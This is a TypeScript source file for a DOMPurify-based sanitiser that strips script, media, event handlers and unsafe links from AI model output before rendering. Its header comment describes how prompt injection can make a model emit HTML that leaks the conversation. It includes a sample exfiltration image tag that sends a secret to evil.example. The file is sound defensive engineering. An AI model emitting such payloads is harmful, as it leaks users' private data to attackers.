/**
 * The single HTML sanitiser for model output (and anything else rendered with `{@html}`).
 *
 * Model output is untrusted: a prompt injection can make a model emit HTML whose only purpose
 * is to run script, to phish inside the app's own UI, or to leak the conversation by making
 * the browser fetch an attacker's URL. The policy below is therefore "text formatting only":
 *
 * - No active or embedding content: script, style, iframe, object, embed, form controls,
 *   svg/math (their own script and event surfaces), media elements.
 * - No event handlers (DOMPurify strips `on*` always) and no `style` attribute (CSS can fetch
 *   remote URLs and overlay the app's UI).
 * - Links: only absolute http(s) and mailto. `javascript:`, `data:`, `vbscript:`, relative and
 *   fragment links are removed (relative links would resolve against the app's origin, which
 *   is never what a model means). Every kept link opens in a new tab with
 *   `rel="noopener noreferrer nofollow"` so the target can neither script the app's window
 *   nor learn which page linked to it.
 * - Images: raw `<img>` is dropped entirely. Loading an image is an outgoing request that
 *   happens without a click, so `<img src="https://evil.example/?q=<secret>">` would leak
 *   whatever the model was tricked into putting in the URL. Markdown images
 *   (`![alt](url)`) are turned into ordinary links by the markdown renderer (see
 *   `incremental.ts`) so the user still sees that an image was referenced and can open it
 *   deliberately.
 * - No `id`/`name` (DOM clobbering of app globals), `class` only as `language-*` on `<code>`
 *   (so model HTML cannot borrow the app's own classes to look like app UI).
 *
 * DOMPurify needs a DOM. Where none exists (Node, a Web Worker) `sanitizeHtml` fails closed by
 * escaping the input, so a caller in the wrong environment sees markup as text instead of
 * getting unsanitised HTML back (DOMPurify itself would return the input unchanged).
 */
import DOMPurify, { type Config, type DOMPurify as Purifier } from 'dompurify';

const FORBID_TAGS = [
  'script',
  'style',
  'link',
  'meta',
  'base',
  'title',
  'noscript',
  'template',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'portal',
  'form',
  'button',
  'textarea',
  'select',
  'option',
  'optgroup',
  'datalist',
  'output',
  'img',
  'picture',
  'source',
  'video',
  'audio',
  'track',
  'map',
  'area',
  'canvas',
  'svg',
  'math',
  'dialog',
];

const FORBID_ATTR = [
  'style',
  'id',
  'name',
  'form',
  'formaction',
  'action',
  'src',
  'srcset',
  'poster',
  'background',
  'ping',
  'xlink:href',
  'srcdoc',
  'autofocus',
  'tabindex',
  'accesskey',
];

/** Link targets we keep: absolute http(s) and mailto only. */
const ALLOWED_URI = /^(?:https?:\/\/|mailto:)/i;

/**
 * DOMPurify checks this against the value of every attribute that is not "URI safe" (type,
 * align, start, ...), not only URLs. Its default with the scheme list narrowed to ours: a value
 * passes if it starts with http(s)/mailto or has no scheme at all. (Using ALLOWED_URI here
 * would strip `type="checkbox"`, `align="right"` and `start="3"`.) Scheme-less hrefs (relative,
 * fragment) are then removed by the hook below.
 */
const ATTR_VALUE_URI = /^(?:(?:https?|mailto):|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i;

const CONFIG: Config = {
  USE_PROFILES: { html: true },
  FORBID_TAGS,
  FORBID_ATTR,
  ALLOWED_URI_REGEXP: ATTR_VALUE_URI,
  ALLOW_DATA_ATTR: false,
  ALLOW_UNKNOWN_PROTOCOLS: false,
  RETURN_TRUSTED_TYPE: false,
};

export const LINK_REL = 'noopener noreferrer nofollow';

let purifier: Purifier | null | undefined;

function getPurifier(): Purifier | null {
  if (purifier !== undefined) return purifier;
  if (typeof window === 'undefined' || typeof window.document === 'undefined') {
    purifier = null;
    return null;
  }
  // A private instance: hooks and config on the shared default instance would leak into (or be
  // changed by) any other code that imports DOMPurify.
  const p = DOMPurify(window);
  if (!p.isSupported) {
    purifier = null;
    return null;
  }
  p.setConfig(CONFIG);
  p.addHook('afterSanitizeAttributes', (node) => {
    const tag = node.nodeName.toLowerCase();
    if (tag === 'a') {
      const href = node.getAttribute('href');
      // The link policy proper: absolute http(s)/mailto only, checked on the parsed URL.
      if (href !== null && !isSafeHref(href)) node.removeAttribute('href');
      if (node.hasAttribute('href')) {
        node.setAttribute('target', '_blank');
        node.setAttribute('rel', LINK_REL);
      } else {
        node.removeAttribute('target');
        node.removeAttribute('rel');
      }
    } else {
      // `target` only makes sense on links we produced the rel for.
      node.removeAttribute('target');
    }
    if (node.hasAttribute('class')) {
      const keep =
        tag === 'code'
          ? (node.getAttribute('class') ?? '').split(/\s+/).filter((c) => /^language-[\w+#.-]+$/.test(c))
          : [];
      if (keep.length > 0) node.setAttribute('class', keep.join(' '));
      else node.removeAttribute('class');
    }
    if (tag === 'input') {
      // marked renders GFM task lists as disabled checkboxes; anything else is not ours.
      if ((node.getAttribute('type') ?? '').toLowerCase() !== 'checkbox') node.remove();
      else node.setAttribute('disabled', '');
    }
  });
  purifier = p;
  return p;
}

export function isSafeHref(href: string): boolean {
  // Strip what browsers ignore in a scheme (whitespace and C0 controls) before checking it.
  // eslint-disable-next-line no-control-regex
  const cleaned = href.replace(/[\u0000-\u0020\u007f-\u009f]/g, '');
  if (!ALLOWED_URI.test(cleaned)) return false;
  try {
    const url = new URL(cleaned);
    return url.protocol === 'http:' || url.protocol === 'https:' || url.protocol === 'mailto:';
  } catch {
    return false;
  }
}

const ESCAPES: Record<string, string> = {
  '&': '&amp;',
  '<': '&lt;',
  '>': '&gt;',
  '"': '&quot;',
  "'": '&#39;',
};

export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => ESCAPES[c] ?? c);
}

/** True when `sanitizeHtml` really sanitises (a DOM is present) rather than escaping. */
export function canSanitize(): boolean {
  return getPurifier() !== null;
}

/** An event-handler attribute inside a raw tag (bounded, so a tag without `>` costs little). */
const HANDLER_ATTR = /(<[a-z][^>]{0,2000}?)[\s/]+on[a-z]+\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+)/gi;

/**
 * Drops event-handler attributes from raw tags before DOMPurify parses the HTML. DOMPurify removes
 * them anyway and stays the sanitiser; this only keeps Chrome from reporting a CSP violation for
 * each handler while DOMPurify's parser sets it on its (inert) document.
 */
export function withoutEventHandlers(html: string): string {
  let out = html;
  for (let previous = ''; out !== previous;) {
    previous = out;
    out = out.replace(HANDLER_ATTR, '$1');
  }
  return out;
}

/** Sanitise an HTML string for insertion with `innerHTML` / `{@html}`. */
export function sanitizeHtml(html: string): string {
  const p = getPurifier();
  if (p === null) return escapeHtml(html);
  return p.sanitize(withoutEventHandlers(html)) as string;
}
